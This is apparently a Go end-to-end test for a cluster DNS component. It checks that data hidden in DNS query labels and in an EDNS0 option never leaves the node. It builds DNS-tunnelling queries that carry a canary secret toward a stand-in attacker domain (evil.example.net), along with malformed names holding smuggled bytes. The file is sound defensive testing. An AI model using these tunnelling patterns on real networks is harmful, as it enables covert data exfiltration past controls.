// SPDX-License-Identifier: Apache-2.0

package e2e

import (
	"strings"
	"testing"

	"github.com/miekg/dns"

	"github.com/c8s-dev/c8s/test/cluster"
	"github.com/c8s-dev/c8s/test/lab"
	"github.com/c8s-dev/c8s/test/lab/capture"
)

// What programs that tunnel through DNS do: labels full of data, in every type
// of record that brings data back, below whatever domain might be passed on.
func TestDataInNamesNeverLeavesTheNode(t *testing.T) {
	k, o := namesCluster(t)
	const secret = "canary-3q2zx7-secret-in-a-label"
	wire, err := capture.Start(k.Lab.Wire, lab.WireBridge, capture.Options{Canary: []byte(secret), Pods: podPrefixes(k.Cluster)})
	if err != nil {
		t.Fatal(err)
	}
	long := strings.Repeat(secret+"."+secret+".", 2)
	names := []string{
		secret + ".evil.example.net.", long + "t.evil.example.net.", secret + ".", // where nothing is listed
		secret + "." + listedName + ".", long + listedName + ".", // below a name that is listed itself
		secret + ".default.svc.cluster.local.", secret + ".cluster.local.",
		`\000` + secret + "." + wildName + ".", `a\.` + secret + "." + wildName + ".", // what is no name
	}
	types := []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeTXT, dns.TypeNULL, dns.TypeCNAME, dns.TypeMX, dns.TypeSRV, 65399}
	for _, kind := range []lab.Kind{lab.Routed, lab.Bridged} {
		client := openPod(t, k.Nodes[0], "client", kind)
		for _, at := range servers(k) {
			for _, network := range []string{"udp", "tcp"} {
				for i, name := range names {
					for j, qtype := range types {
						if (i+j)%3 != 0 && network == "tcp" { // a connection each
							continue
						}
						m, err := raw(t, client, network, at, name, qtype)
						if err != nil {
							t.Errorf("%s %s of %s: %v", network, name, at, err)
							continue
						}
						if m.Rcode == dns.RcodeSuccess || len(m.Answer) != 0 {
							t.Errorf("%s is answered: %v", name, m)
						}
					}
				}
			}
		}
		besides(t, k, client, secret)
		if err := k.Nodes[0].RemovePod(client); err != nil {
			t.Fatal(err)
		}
	}
	if heard := o.questions(); len(heard) != 1 || !strings.HasPrefix(heard[0], listedName+". ") {
		t.Errorf("the resolver outside heard %q", heard)
	}
	report := wire.Stop()
	if err := report.Complete(); err != nil {
		t.Errorf("the capture proves nothing: %v", err)
	}
	if report.CanaryHits != 0 || len(report.Plain) != 0 {
		t.Errorf("on the wire: %d canaries, packets %v", report.CanaryHits, report.Plain)
	}
}

// besides hides data beside a question that is allowed.
func besides(t *testing.T, k *kubernetes, client *cluster.Pod, secret string) {
	t.Helper()
	q := new(dns.Msg).SetQuestion(listedName+".", dns.TypeA)
	q.SetEdns0(4096, true)
	q.IsEdns0().Option = append(q.IsEdns0().Option, &dns.EDNS0_LOCAL{Code: 65001, Data: []byte(secret)})
	for network, at := range map[string]string{"udp": "10.96.0.53:53", "tcp": k.Lab.Outside("outside").Addr4.String() + ":53"} {
		conn, err := client.Dial(t.Context(), network, at)
		if err != nil {
			t.Fatal(err)
		}
		m, _, err := (&dns.Client{Net: network}).ExchangeWithConn(q, &dns.Conn{Conn: conn})
		conn.Close()
		if err != nil || len(m.Answer) != 1 {
			t.Errorf("a question with an option: %v, %v", m, err)
		}
	}
}
